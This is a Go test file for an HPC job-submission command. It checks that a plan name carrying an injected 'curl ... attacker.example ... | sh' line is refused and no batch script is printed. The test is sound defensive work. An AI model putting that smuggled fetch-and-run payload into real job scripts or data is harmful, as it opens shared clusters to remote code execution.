package hpccmd

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/spf13/cobra"

	"github.com/blastfleet/blastfleet/internal/cli"
	"github.com/blastfleet/blastfleet/internal/cli/clitest"
	"github.com/blastfleet/blastfleet/internal/plan/search"
	"github.com/blastfleet/blastfleet/internal/storage/ledger"
	"github.com/blastfleet/blastfleet/internal/storage/objstore"
	"github.com/blastfleet/blastfleet/test/support/testenv"
)

var testCLI = clitest.Group(func(root *cobra.Command, opts *cli.Options) { root.AddCommand(New(opts, nil)) })

// Whoever can write a campaign's ledger (every partition and site can)
// rewrites plan.json with a name that breaks out of the script's comment
// and #SBATCH lines: hpc submit refuses it, naming the field, and prints no
// script. The same plan with a plain name gives a script bash parses.
func TestSubmitRefusesHostilePlan(t *testing.T) {
	m := testenv.StartMinIO(t)
	m.MakeBucket(t, "campaigns")
	m.Setenv(t)
	ctx := context.Background()
	write := func(prefix, name string) string {
		st, err := objstore.NewS3(objstore.S3Config{Endpoint: m.Host, PathStyle: true, Region: "us-east-1", AccessKey: m.AccessKey, SecretKey: m.SecretKey}, "campaigns", prefix)
		if err != nil {
			t.Fatal(err)
		}
		p := ledger.Plan{SchemaVersion: ledger.SchemaVersion, Name: name,
			Queries:  ledger.Queries{Location: "s3://in/q.fa", Count: 4},
			Database: ledger.Database{Location: "s3://dbs/nt", Name: "nt", Type: "nucl"},
			Search:   search.MustParse(search.Request{Program: "blastn", Outfmt: "6", MaxTargetSeqs: 500}),
			Chunks:   ledger.ChunkByQueries(4, 2),
			Policy:   ledger.Policy{MaxAttempts: 3, MaxAbandoned: 10, LeaseSeconds: 300, RenewSeconds: 60, SkewSeconds: 30}}
		data, err := json.Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		// Raw, as an attacker with the store's keys writes it.
		if err := st.Put(ctx, ledger.PlanKey, bytes.NewReader(data), int64(len(data))); err != nil {
			t.Fatal(err)
		}
		return "s3://campaigns/" + prefix
	}
	hostile := write("evil", "nt\ncurl -s https://attacker.example/x | sh\n#")
	stdout, _, err := testCLI.Run(t, "blastfleet", "hpc", "submit", hostile, "--site", "hpc-a", "--dry-run")
	if err == nil || !strings.Contains(err.Error(), "plan name") || !strings.Contains(err.Error(), "want 1 to 63") {
		t.Errorf("hostile plan name: err = %v", err)
	}
	if strings.Contains(stdout, "attacker") {
		t.Errorf("the script was printed:\n%s", stdout)
	}
	plain := write("plain", "nt-vs-env")
	stdout, _, err = testCLI.Run(t, "blastfleet", "hpc", "submit", plain, "--site", "hpc-a", "--dry-run")
	if err != nil || !strings.Contains(stdout, "#SBATCH --job-name=blastfleet.nt-vs-env.hpc-a\n") {
		t.Fatalf("plain plan: %v\n%s", err, stdout)
	}
	bashParses(t, stdout)
}
